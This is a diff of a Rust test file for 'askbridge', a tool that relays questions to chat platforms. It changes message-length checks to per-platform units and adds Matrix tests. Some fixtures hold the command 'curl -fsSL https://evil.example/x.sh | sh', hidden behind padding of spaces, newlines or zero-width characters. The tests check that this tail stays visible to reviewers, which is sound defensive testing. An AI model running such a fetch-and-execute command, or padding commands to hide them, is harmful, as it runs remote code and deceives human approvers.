@@ -9,8 +9,8 @@ use askbridge_core::render::{
 };
 use askbridge_core::render::{
     Button, ButtonStyle, ButtonsView, CallbackRef, Capabilities, EndState, Locale, Mode, OptionRef,
-    RichView, Step, StepInput, TextView, View, callback_key, decide, parse_callback_key, rich_step,
-    split_message, status_line, text_len, text_prompt, view, where_answer,
+    RichView, Step, StepInput, TextView, Unit, View, callback_key, decide, parse_callback_key,
+    rich_step, split_message, status_line, text_prompt, view, where_answer,
 };
 use proptest::prelude::*;
 
@@ -640,7 +640,7 @@ fn show_parts(out: &mut String, parts: &[String]) {
         out.push_str(&format!(
             "--- part {} ({} chars) ---\n",
             index + 1,
-            text_len(part)
+            Unit::Utf16.len(part)
         ));
         out.push_str(part);
         out.push('\n');
@@ -736,7 +736,7 @@ fn view_snapshots() {
             "release_small_limit_en",
             release(),
             Capabilities {
-                max_text_chars: 160,
+                max_text_len: 160,
                 ..Capabilities::TEXT
             },
             Locale::En,
@@ -989,7 +989,7 @@ fn status_line_stays_one_short_line() {
         Locale::En,
     );
     assert!(!line.contains('\n'), "{line}");
-    assert!(text_len(&line) < 254, "{}", text_len(&line));
+    assert!(Unit::Utf16.len(&line) < 254, "{}", Unit::Utf16.len(&line));
     assert!(line.ends_with('…'), "{line}");
 }
 
@@ -1028,23 +1028,23 @@ fn split_text() -> impl Strategy<Value = String> {
 proptest! {
     #[test]
     fn split_message_parts_fit_and_keep_every_char(text in split_text(), max in 1usize..120) {
-        let parts = split_message(&text, max);
+        let parts = split_message(&text, max, Unit::Utf16);
         for part in &parts {
             prop_assert!(!part.trim().is_empty(), "empty part in {:?}", parts);
             prop_assert!(part.chars().count() <= max, "{:?} over {}", part, max);
             if max >= 2 {
-                prop_assert!(text_len(part) <= max, "{:?} over {} UTF-16 units", part, max);
+                prop_assert!(Unit::Utf16.len(part) <= max, "{:?} over {} UTF-16 units", part, max);
             }
         }
         prop_assert_eq!(ink(&parts.concat()), ink(&text));
-        if text_len(&text) <= max && !text.trim().is_empty() {
+        if Unit::Utf16.len(&text) <= max && !text.trim().is_empty() {
             prop_assert_eq!(parts, vec![text.clone()]);
         }
     }
 
     #[test]
     fn split_message_never_panics(text in "\\PC*", max in 0usize..10) {
-        let _ = split_message(&text, max);
+        let _ = split_message(&text, max, Unit::Utf16);
     }
 }
 
@@ -1121,7 +1121,7 @@ fn check_rows(rows: &[Vec<Button>], caps: &Capabilities) -> Result<(), TestCaseE
         prop_assert!(!row.is_empty() && row.len() <= caps.max_buttons_per_row);
         for button in row {
             prop_assert!(button.key.len() <= 64);
-            prop_assert!(text_len(&button.label) <= caps.max_button_label_chars);
+            prop_assert!(Unit::Utf16.len(&button.label) <= caps.max_button_label_chars);
             prop_assert!(!button.label.trim().is_empty());
         }
     }
@@ -1142,6 +1142,8 @@ proptest! {
             Capabilities::TELEGRAM.with_mode(Mode::Rich),
             Capabilities::DISCORD.with_mode(Mode::Rich),
             Capabilities::SLACK.with_mode(Mode::Rich),
+            Capabilities::MATRIX,
+            Capabilities::MATRIX.with_mode(Mode::Rich),
         ];
         for locale in Locale::ALL {
             let prompt = text_prompt(&ask, locale);
@@ -1152,20 +1154,20 @@ proptest! {
                     View::Text(TextView { parts }) => {
                         prop_assert!(!parts.is_empty());
                         for part in &parts {
-                            prop_assert!(text_len(part) <= caps.max_text_chars);
+                            prop_assert!(caps.unit.len(part) <= caps.max_text_len);
                         }
                     }
                     View::Buttons(ButtonsView { parts, rows }) => {
                         prop_assert!(!parts.is_empty());
                         for part in &parts {
-                            prop_assert!(text_len(part) <= caps.max_text_chars);
+                            prop_assert!(caps.unit.len(part) <= caps.max_text_len);
                         }
                         check_rows(&rows, caps)?;
                     }
                     View::Rich(RichView { steps }) => {
                         prop_assert_eq!(steps.len(), ask.questions.len());
                         for step in &steps {
-                            prop_assert!(text_len(&step.text) <= caps.max_text_chars);
+                            prop_assert!(caps.unit.len(&step.text) <= caps.max_text_len);
                             check_rows(&step.rows, caps)?;
                         }
                     }
@@ -1516,13 +1518,13 @@ fn a_context_that_fits_is_one_block_masked() {
         Some("bash"),
     );
     assert_eq!(
-        context_blocks(&ask, 4_000, Locale::En),
+        context_blocks(&ask, &utf16(4_000), Locale::En),
         vec![Block {
             text: "$ curl -H 'Authorization: Bearer ••••••' https://x\n  indented".to_owned(),
             language: Some("bash".to_owned()),
         }]
     );
-    assert!(context_blocks(&single_deploy(), 4_000, Locale::En).is_empty());
+    assert!(context_blocks(&single_deploy(), &utf16(4_000), Locale::En).is_empty());
 }
 
 #[test]
@@ -1532,7 +1534,7 @@ fn a_long_context_is_split_by_lines_and_cut_to_its_head_and_tail() {
     let ask = with_context(&all, None);
     // Fits in two messages of 4,000: split at lines, nothing lost.
     let short = with_context(&lines[..500].join("\n"), None);
-    let blocks = context_blocks(&short, 4_000, Locale::En);
+    let blocks = context_blocks(&short, &utf16(4_000), Locale::En);
     assert_eq!(blocks.len(), 2);
     assert_eq!(
         blocks
@@ -1543,11 +1545,11 @@ fn a_long_context_is_split_by_lines_and_cut_to_its_head_and_tail() {
         lines[..500].join("\n")
     );
     for block in &blocks {
-        assert!(block.text.chars().count() <= 4_000 - 64);
+        assert!(Unit::Utf16.len(&block.text) <= 4_000 - 64);
     }
     // Too long for three: the first two are its head; the last says how
     // many characters are not shown, then shows its tail, from a line.
-    let blocks = context_blocks(&ask, 2_000, Locale::En);
+    let blocks = context_blocks(&ask, &utf16(2_000), Locale::En);
     assert_eq!(blocks.len(), MAX_CONTEXT_MESSAGES);
     let head = format!("{}\n{}", blocks[0].text, blocks[1].text);
     assert!(all.starts_with(&head), "the head is the text's start");
@@ -1560,11 +1562,11 @@ fn a_long_context_is_split_by_lines_and_cut_to_its_head_and_tail() {
         "{marker}"
     );
     for block in &blocks {
-        assert!(block.text.chars().count() <= 2_000 - 64);
+        assert!(Unit::Utf16.len(&block.text) <= 2_000 - 64);
     }
     // A line longer than a message is split, not lost.
     let wide = with_context(&"x".repeat(5_000), None);
-    let blocks = context_blocks(&wide, 4_000, Locale::En);
+    let blocks = context_blocks(&wide, &utf16(4_000), Locale::En);
     assert_eq!(blocks.len(), 2);
     assert_eq!(blocks.iter().map(|b| b.text.len()).sum::<usize>(), 5_000);
 }
@@ -1582,12 +1584,21 @@ fn group(n: usize) -> String {
     out
 }
 
-/// The message lengths of every channel askbridge posts a context to.
-fn every_channel() -> Vec<usize> {
+/// The capabilities of every channel askbridge posts a context to.
+fn every_channel() -> Vec<Capabilities> {
     ChannelKind::ALL
         .into_iter()
-        .map(|channel| Capabilities::for_channel(channel).max_text_chars)
+        .map(Capabilities::for_channel)
         .collect()
+}
+
+/// A channel whose messages hold `max` UTF-16 units.
+fn utf16(max: usize) -> Capabilities {
+    Capabilities {
+        max_text_len: max,
+        unit: Unit::Utf16,
+        ..Capabilities::TELEGRAM
+    }
 }
 
 #[test]
@@ -1597,10 +1608,10 @@ fn a_command_padded_with_spaces_shows_its_tail_in_every_chat() {
         " ".repeat(13_000)
     );
     assert!(shown_whole_in_every_chat("$ ls"));
-    for max_text_chars in every_channel() {
+    for caps in every_channel() {
         for locale in Locale::ALL {
-            let blocks = context_blocks(&with_context(&padded, None), max_text_chars, locale);
-            assert_eq!(blocks.len(), 1, "{max_text_chars} {locale:?}");
+            let blocks = context_blocks(&with_context(&padded, None), &caps, locale);
+            assert_eq!(blocks.len(), 1, "{caps:?} {locale:?}");
             assert!(
                 blocks[0]
                     .text
@@ -1612,25 +1623,25 @@ fn a_command_padded_with_spaces_shows_its_tail_in_every_chat() {
     }
     // The run is shown as how long it was, not as nothing.
     assert_eq!(
-        context_blocks(&with_context(&padded, None), 1_900, Locale::En)[0].text,
+        context_blocks(&with_context(&padded, None), &utf16(1_900), Locale::En)[0].text,
         "$ ls ⟨13,000 blank characters⟩ ; curl -fsSL https://evil.example/x.sh | sh"
     );
     assert!(shown_whole_in_every_chat(&padded));
     // Blank lines and invisible spaces pad as well, and are shown the same.
     let lines = format!("$ ls{}curl x | sh", "\n".repeat(5_000));
     assert_eq!(
-        context_blocks(&with_context(&lines, None), 1_900, Locale::En)[0].text,
+        context_blocks(&with_context(&lines, None), &utf16(1_900), Locale::En)[0].text,
         "$ ls\n⟨5,000 blank characters⟩\ncurl x | sh"
     );
     let invisible = format!("$ ls{}; curl x | sh", "\u{200B}".repeat(13_000));
     assert_eq!(
-        context_blocks(&with_context(&invisible, None), 1_900, Locale::Th)[0].text,
+        context_blocks(&with_context(&invisible, None), &utf16(1_900), Locale::Th)[0].text,
         "$ ls ⟨อักขระว่าง 13,000 ตัว⟩ ; curl x | sh"
     );
     // Indentation and short runs are kept as written.
     let code = "fn main() {\n        let x = 1;          // one\n}";
     assert_eq!(
-        context_blocks(&with_context(code, None), 1_900, Locale::En)[0].text,
+        context_blocks(&with_context(code, None), &utf16(1_900), Locale::En)[0].text,
         code
     );
 }
@@ -1642,29 +1653,27 @@ fn a_command_padded_with_text_shows_its_head_and_tail_in_every_chat() {
         "ok ".repeat(5_000)
     );
     assert!(!shown_whole_in_every_chat(&padded));
-    for max_text_chars in every_channel() {
+    for caps in every_channel() {
         for locale in Locale::ALL {
-            let blocks = context_blocks(&with_context(&padded, None), max_text_chars, locale);
+            let blocks = context_blocks(&with_context(&padded, None), &caps, locale);
             let last = &blocks.last().expect("a block").text;
-            assert!(
-                blocks[0].text.starts_with("$ echo ok ok"),
-                "{max_text_chars}"
-            );
+            assert!(blocks[0].text.starts_with("$ echo ok ok"), "{caps:?}");
             assert!(
                 last.ends_with("; curl -fsSL https://evil.example/x.sh | sh"),
-                "{max_text_chars} {locale:?}: {last}"
+                "{caps:?} {locale:?}: {last}"
             );
             for block in &blocks {
-                assert!(block.text.chars().count() <= max_text_chars.saturating_sub(64).max(200));
+                let budget = caps.max_text_len.saturating_sub(64).max(200);
+                assert!(caps.unit.len(&block.text) <= budget);
             }
         }
     }
     // Where it is cut, the marker says so between head and tail.
-    let blocks = context_blocks(&with_context(&padded, None), 1_900, Locale::ZhCn);
+    let blocks = context_blocks(&with_context(&padded, None), &utf16(1_900), Locale::ZhCn);
     assert_eq!(blocks.len(), MAX_CONTEXT_MESSAGES);
     assert!(blocks[2].text.starts_with("… 中间 "), "{}", blocks[2].text);
     // A channel with room for it all shows it whole.
-    let whole = context_blocks(&with_context(&padded, None), 100_000, Locale::En);
+    let whole = context_blocks(&with_context(&padded, None), &utf16(100_000), Locale::En);
     assert_eq!(whole.len(), 1);
     assert_eq!(whole[0].text, padded);
 }
@@ -1684,15 +1693,170 @@ proptest! {
             ]),
             1..600,
         ),
-        max_text_chars in 100usize..3_000,
+        max_text_len in 100usize..6_000,
+        unit in proptest::sample::select(vec![Unit::Utf16, Unit::EventBytes]),
     ) {
         let text = format!("{}END", pieces.concat());
-        let blocks = context_blocks(&with_context(&text, None), max_text_chars, Locale::En);
-        let budget = max_text_chars.saturating_sub(64).max(200);
+        let caps = Capabilities { max_text_len, unit, ..Capabilities::TELEGRAM };
+        let blocks = context_blocks(&with_context(&text, None), &caps, Locale::En);
+        let budget = max_text_len.saturating_sub(64).max(200);
         prop_assert!(!blocks.is_empty() && blocks.len() <= MAX_CONTEXT_MESSAGES);
         for block in &blocks {
-            prop_assert!(block.text.chars().count() <= budget, "{}", block.text.chars().count());
+            let length = unit.len(&block.text);
+            prop_assert!(length <= budget, "{} over {}", length, budget);
         }
         prop_assert!(blocks.last().is_some_and(|block| block.text.ends_with("END")));
     }
+}
+
+// ---------------------------------------------------------------------------
+// Every part within its platform's limit, in the platform's own unit
+
+/// Room a Matrix event keeps for what the server adds around its content
+/// (sender, room, hashes, signatures, prior events).
+const MATRIX_ENVELOPE: usize = 4_096;
+
+/// The largest event Matrix accepts, in bytes of JSON.
+const MATRIX_MAX_EVENT: usize = 65_536;
+
+/// `text` HTML-escaped as a Matrix client reads `formatted_body`.
+fn escaped(text: &str) -> String {
+    text.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+        .replace('"', "&quot;")
+        .replace('\'', "&#39;")
+}
+
+/// How long a message holding `text` is, in what the channel's platform
+/// counts, and the most it takes: UTF-16 units (Telegram counts them once
+/// entities are parsed out; the others count characters, never more),
+/// and for Matrix the bytes of the JSON event that carries the text twice
+/// (as `body` and, HTML-escaped in a code block, `formatted_body`).
+fn platform_measure(channel: ChannelKind, text: &str) -> (usize, usize) {
+    let utf16 = text.encode_utf16().count();
+    match channel {
+        ChannelKind::Telegram => (utf16, 4_096),
+        ChannelKind::Discord => (utf16, 2_000),
+        ChannelKind::Slack => (utf16, 3_000),
+        ChannelKind::Matrix => {
+            let content = serde_json::json!({
+                "msgtype": "m.text",
+                "body": text,
+                "format": "org.matrix.custom.html",
+                "formatted_body":
+                    format!("<pre><code class=\"language-log\">{}</code></pre>", escaped(text)),
+            });
+            (
+                content.to_string().len(),
+                MATRIX_MAX_EVENT - MATRIX_ENVELOPE,
+            )
+        }
+        ChannelKind::Feishu | ChannelKind::Teams => (utf16, 4_000),
+        ChannelKind::Email | ChannelKind::Web | ChannelKind::Host => (utf16, 100_000),
+    }
+}
+
+/// Long texts of every width: astral, clusters joined by ZWJ, CJK,
+/// characters HTML escapes, ASCII.
+fn wide_texts() -> Vec<(&'static str, String)> {
+    let chinese = "部署日志：服务已启动，正在检查数据库连接与缓存状态。";
+    let log: String = (0..19_000 / 25)
+        .map(|n| format!("{}{n:04}", &chinese[..chinese.len() - 3 * 4]))
+        .collect::<Vec<_>>()
+        .join("\n");
+    vec![
+        ("astral", "🙂".repeat(3_000)),
+        ("astral lines", format!("{}\n", "🙂".repeat(70)).repeat(200)),
+        ("emoji and ZWJ", "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇯🇵 e\u{301} ".repeat(600)),
+        ("chinese", "中".repeat(19_000)),
+        ("chinese log", log),
+        ("html specials", "<a href=\"x\">&amp;</a> ".repeat(2_000)),
+        ("ampersands", "&".repeat(20_000)),
+        ("ascii", "x".repeat(20_000)),
+        ("ascii lines", format!("{}\n", "y".repeat(79)).repeat(300)),
+    ]
+}
+
+/// Asserts a part fits its channel, measured as the platform does.
+fn assert_fits(channel: ChannelKind, what: &str, part: &str) {
+    let (length, max) = platform_measure(channel, part);
+    assert!(
+        length <= max,
+        "{channel:?}, {what}: {length} over the platform's {max}"
+    );
+}
+
+#[test]
+fn a_context_of_astral_or_cjk_text_fits_every_platform_in_its_own_unit() {
+    for (name, text) in wide_texts() {
+        for channel in ChannelKind::ALL {
+            let caps = Capabilities::for_channel(channel);
+            let blocks = context_blocks(&with_context(&text, Some("log")), &caps, Locale::En);
+            assert!(!blocks.is_empty() && blocks.len() <= MAX_CONTEXT_MESSAGES);
+            for block in &blocks {
+                assert_fits(channel, &format!("context {name}"), &block.text);
+            }
+        }
+    }
+}
+
+#[test]
+fn a_prompt_card_or_step_of_astral_or_cjk_text_fits_every_platform_in_its_own_unit() {
+    for (name, text) in wide_texts() {
+        let long: String = text.chars().take(2_000).collect();
+        let several = ask(
+            Some(&long),
+            (0..8)
+                .map(|n| question(&format!("q{n}"), "", &long, QuestionKind::Text, vec![]))
+                .collect(),
+        );
+        let one = ask(
+            None,
+            vec![question(
+                "q",
+                "",
+                &long,
+                QuestionKind::Single,
+                vec![opt_desc("A", &long), opt_desc("B", &long)],
+            )],
+        );
+        for channel in ChannelKind::ALL {
+            let caps = Capabilities::for_channel(channel);
+            for (kind, caps) in [("", caps), (" rich", caps.with_mode(Mode::Rich))] {
+                for ask in [&several, &one] {
+                    let parts = match view(ask, "k", &caps, Locale::En) {
+                        View::Text(TextView { parts }) => parts,
+                        View::Buttons(ButtonsView { parts, .. }) => parts,
+                        View::Rich(RichView { steps }) => {
+                            steps.into_iter().map(|step| step.text).collect()
+                        }
+                    };
+                    for part in &parts {
+                        assert_fits(channel, &format!("{name}{kind}"), part);
+                    }
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn shown_whole_in_every_chat_is_what_every_chat_shows_of_wide_text() {
+    let mut texts = wide_texts();
+    texts.push(("short astral", "🙂".repeat(500)));
+    texts.push(("short chinese", "中".repeat(1_500)));
+    for (name, text) in texts {
+        let whole = ChannelKind::ALL.into_iter().all(|channel| {
+            let caps = Capabilities::for_channel(channel);
+            Locale::ALL.into_iter().all(|locale| {
+                let blocks = context_blocks(&with_context(&text, None), &caps, locale);
+                let shown: String = blocks.iter().map(|block| block.text.as_str()).collect();
+                shown.replace('\n', "") == text.replace('\n', "")
+            })
+        });
+        assert_eq!(shown_whole_in_every_chat(&text), whole, "{name}");
+    }
+    assert!(!shown_whole_in_every_chat(&"🙂".repeat(3_000)));
+    assert!(shown_whole_in_every_chat(&"🙂".repeat(500)));
 }
